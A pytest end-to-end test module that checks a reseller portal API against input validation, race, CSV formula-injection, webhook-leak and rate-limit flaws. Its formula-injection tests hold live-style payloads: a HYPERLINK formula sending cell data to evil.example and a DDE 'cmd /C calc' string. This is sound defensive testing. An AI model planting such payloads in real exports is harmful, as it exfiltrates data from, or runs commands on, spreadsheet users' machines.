"""Issue 15 ("Trust"), findings 7-10 and the reseller-change part of 12, through the public API.

7: bad input is a 422 naming the field, never a 500, and changes nothing (money, dates, the test clock).
8: CUS-14 holds when two acceptances race. 9: CSV exports never hand a spreadsheet a formula.
10: a private webhook target's answer never reaches the delivery log. 12: reseller-change codes are
counted per requesting partner, so one partner cannot block another.
"""

import csv
import http.server
import io
import re
import threading
import uuid
from datetime import datetime, timedelta
from decimal import Decimal

import httpx
import pytest

from portal_shared.events.topics import CUSTOMERS
from portal_stack.testing import customer_body, eventually

pytestmark = pytest.mark.e2e

BAD_AMOUNTS = ["1e400", "1" * 35, "１２", " 12", "1E2", "12.345678", "NaN"]


def _field_error(response: httpx.Response, field: str) -> dict:
    assert response.status_code == 422, response.text
    assert response.headers["content-type"] == "application/problem+json"
    body = response.json()
    assert field in {e["field"] for e in body["errors"]}, body
    return body


def _invitation_token(tap, customer_id: str) -> str:
    envelope = tap.wait_for(CUSTOMERS, "customer.created", lambda p: p["customer_id"] == customer_id)
    return re.search(r"/invitations/([^/]+)$", envelope["payload"]["invitation"]["accept_url"]).group(1)


@pytest.fixture(scope="module")
def seller(gateway, catalog):
    partner = gateway.create_partner()
    eventually(lambda: partner.get("/v1/catalog/offers").status_code == 200)
    return partner


def _invoiced_customer(seller, **overrides):
    customer = seller.post("/v1/customers", json=customer_body(**overrides)).json()
    eventually(lambda: seller.get(f"/v1/customers/{customer['id']}/cart").status_code == 200)
    added = seller.post(f"/v1/customers/{customer['id']}/cart/items",
                        json={"offer_id": "forge-ide", "quantity": 1, "term": "P1Y", "billing_frequency": "annual"})
    assert added.status_code == 201, added.text
    order = seller.post(f"/v1/customers/{customer['id']}/cart/checkout", json={"payment": {"method": "postpaid"}})
    assert order.status_code == 201, order.text
    [invoice] = eventually(
        lambda: seller.get("/v1/invoices", params={"order_number": order.json()["number"]}).json()["items"],
        what="invoice",
    )
    return customer, invoice


# 7: money -----------------------------------------------------------------------------------------------------------

def test_trust_7_a_payment_amount_that_is_not_a_plain_decimal_gets_422_and_books_nothing(seller):
    _, invoice = _invoiced_customer(seller)
    path = f"/v1/invoices/{invoice['number']}/payments"
    for amount in BAD_AMOUNTS:
        _field_error(seller.post(path, json={"amount": amount}), "amount")
    after = seller.get(f"/v1/invoices/{invoice['number']}").json()
    assert (after["status"], after["payments"]) == ("not_paid", [])
    assert seller.post(path, json={"amount": "1.00"}).status_code == 201


# 7: dates -----------------------------------------------------------------------------------------------------------

def test_trust_7_an_anniversary_in_year_1_or_9999_gets_422_and_creates_no_customer(partner):
    for day in ("0001-01-01", "9999-12-31"):
        name = f"Far Away {uuid.uuid4().hex[:8]}"
        created = partner.post("/v1/customers", json=customer_body(name=name, anniversary_date=day))
        _field_error(created, "anniversary_date")
        assert partner.get("/v1/customers", params={"q": name}).json()["items"] == []


def test_trust_7_purchase_authorization_due_and_quote_validity_are_bounded(seller):
    customer = seller.post("/v1/customers", json=customer_body()).json()
    path = f"/v1/customers/{customer['id']}/purchase-authorizations"
    for day in ("0001-01-01", "9999-12-31"):
        _field_error(seller.post(path, json={"due_date": day, "items": [{"offer_id": "forge-ide", "quantity": 1}]}),
                     "due_date")
        quote = seller.post(f"/v1/customers/{customer['id']}/cart/quote", json={"valid_until": day})
        _field_error(quote, "valid_until")
    assert seller.get(path).json()["items"] == []


# 7: the test clock --------------------------------------------------------------------------------------------------

def test_trust_7_the_test_clock_refuses_moves_out_of_range_and_keeps_working(gateway, partner):
    before = gateway.now()
    _field_error(gateway.move_clock(advance="P99999999999D"), "advance")
    _field_error(gateway.move_clock(advance="P40000D"), "advance")
    _field_error(gateway.move_clock(now="9999-12-31T23:59:59Z"), "now")
    _field_error(gateway.move_clock(now="2200-01-02T00:00:00Z"), "now")
    assert abs(gateway.now() - before) < timedelta(minutes=1)
    assert partner.post("/v1/customers", json=customer_body()).status_code == 201
    assert partner.get("/v1/customers").status_code == 200


def test_trust_7_the_operator_resets_the_test_clock_to_real_time(gateway, partner):
    before = gateway.now()
    assert gateway.move_clock(advance="P3D").status_code == 200
    reset = gateway.http.put("/v1/test/clock", headers=gateway.operator, json={"reset": True})
    assert reset.status_code == 200, reset.text
    assert abs(datetime.fromisoformat(reset.json()["now"]) - datetime.now().astimezone()) < timedelta(minutes=1)
    assert set(reset.json()["services"]) == {"customers", "subscriptions", "billing", "notifications"}
    assert partner.post("/v1/customers", json=customer_body()).status_code == 201
    _field_error(gateway.http.put("/v1/test/clock", headers=gateway.operator, json={"reset": False}), "reset")
    # Back to where the session's clock was, for the tests that follow.
    assert gateway.move_clock(now=(before + timedelta(days=3)).isoformat()).status_code == 200


# 8: CUS-14 under concurrency ----------------------------------------------------------------------------------------

def test_trust_8_two_acceptances_for_the_same_name_at_once_one_succeeds_the_other_gets_409(gateway, partner, tap):
    """Several pairs, each pair accepted by two threads released together: without a lock both pass the check."""
    outcomes = []
    for _ in range(4):
        name, email = f"Race Org {uuid.uuid4().hex[:6]}", f"race.{uuid.uuid4().hex[:6]}@example.com"
        body = customer_body(name=name, contact={"name": "Rae", "email": email})
        pair = [partner.post("/v1/customers", json=body).json() for _ in range(2)]
        tokens = [_invitation_token(tap, c["id"]) for c in pair]
        start = threading.Barrier(2)
        answers: list[httpx.Response] = []

        def accept(token: str) -> None:
            with httpx.Client(base_url=gateway.url, timeout=30) as client:
                start.wait()
                answers.append(client.post(f"/v1/invitations/{token}/accept", json={"admin_name": "Rae"}))

        threads = [threading.Thread(target=accept, args=(t,)) for t in tokens]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        outcomes.append(sorted(a.status_code for a in answers))
        refused = [a for a in answers if a.status_code == 409]
        assert all(a.json()["type"].endswith("/cus-14") for a in refused), [a.text for a in refused]
    assert outcomes == [[200, 409]] * 4


# 9: CSV formula injection -------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def test_trust_9_customer_export_neutralises_formula_cells(gateway):
    partner = gateway.create_partner()
    for name in FORMULAS:
        assert partner.post("/v1/customers", json=customer_body(name=name, city="=1+1")).status_code == 201
    raw = partner.get("/v1/customers/export.csv").text
    rows = list(csv.DictReader(io.StringIO(raw)))
    assert sorted(r["name"] for r in rows) == sorted("'" + n for n in FORMULAS)
    assert {r["city"] for r in rows} == {"'=1+1"}
    assert "\"'=HYPERLINK(" in raw and ",\"'=1+1\"," in raw


def test_trust_9_names_with_bidi_override_characters_get_422(partner):
    for char in ("\u202e", "\u2066"):
        _field_error(partner.post("/v1/customers", json=customer_body(name=f"Acme{char}fdp.exe")), "name")
        contact = {"name": f"Ana{char}", "email": "ana@example.com"}
        _field_error(partner.post("/v1/customers", json=customer_body(contact=contact)), "contact.name")


def test_trust_9_reconciliation_csv_neutralises_text_and_keeps_amounts_as_numbers(gateway, seller):
    name = f"=HYPERLINK(\"http://evil.example\",\"{uuid.uuid4().hex[:6]}\")"
    _, invoice = _invoiced_customer(seller, name=name)
    today = gateway.now().date().isoformat()
    raw = seller.get("/v1/reconciliation.csv", params={"from": "2000-01-01", "to": today}).text
    rows = [r for r in csv.DictReader(io.StringIO(raw)) if r["number"] == invoice["number"]]
    assert rows and {r["customer_name"] for r in rows} == {"'" + name}
    [line] = [ln for ln in raw.splitlines() if invoice["number"] in ln and "invoice_line" in ln]
    assert re.search(r',-?\d+\.\d{2},-?\d+\.\d{2},"EUR"', line), line
    assert all(Decimal(r["amount"]) > 0 for r in rows)


# 10: webhooks to private targets ------------------------------------------------------------------------------------

class _LeakyService(http.server.BaseHTTPRequestHandler):
    """An internal service that answers with something no partner may read."""

    hits = 0

    def do_POST(self):  # noqa: N802 - http.server's hook name
        self.rfile.read(int(self.headers["Content-Length"]))
        type(self).hits += 1
        body = b'{"internal": "db-password=hunter2"}'
        self.send_response(500)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


def test_trust_10_a_private_targets_answer_never_reaches_the_delivery_log(gateway):
    partner = gateway.create_partner()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _LeakyService)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        hook = partner.post("/v1/webhooks", json={"url": f"http://127.0.0.1:{server.server_port}/",
                                                   "event_types": ["customer.created"]})
        assert hook.status_code == 201, hook.text
        partner.post("/v1/customers", json=customer_body())
        [delivery] = eventually(
            lambda: [d for d in partner.get(f"/v1/webhooks/{hook.json()['id']}/deliveries").json()["items"]
                     if d["attempts"] >= 1],
            what="a first delivery attempt",
        )
    finally:
        server.shutdown()
    assert _LeakyService.hits >= 1
    listed = partner.get(f"/v1/webhooks/{hook.json()['id']}/deliveries").text
    assert "hunter2" not in listed and "internal" not in listed
    assert delivery["last_error"] == "HTTP 500"


# 12: reseller-change codes per requesting partner -------------------------------------------------------------------

def test_trust_12_one_partner_exhausting_its_codes_does_not_block_another(gateway, partner, tap):
    customer = partner.post("/v1/customers", json=customer_body()).json()
    accepted = gateway.http.post(f"/v1/invitations/{_invitation_token(tap, customer['id'])}/accept",
                                 json={"admin_name": "Ana Admin"})
    assert accepted.status_code == 200, accepted.text
    morning = (gateway.now() + timedelta(days=1)).replace(hour=9, minute=0, second=0, microsecond=0)
    assert gateway.move_clock(now=morning.isoformat()).status_code == 200
    nuisance, real_reseller = gateway.create_partner(), gateway.create_partner()
    body = {"customer_number": customer["number"], "admin_email": customer["contact"]["email"]}
    for _ in range(5):
        assert nuisance.post("/v1/reseller-changes", json=body).status_code == 201
    refused = nuisance.post("/v1/reseller-changes", json=body)
    assert refused.status_code == 409 and refused.json()["type"].endswith("/cus-7"), refused.text
    issued = real_reseller.post("/v1/reseller-changes", json=body)
    assert issued.status_code == 201, issued.text
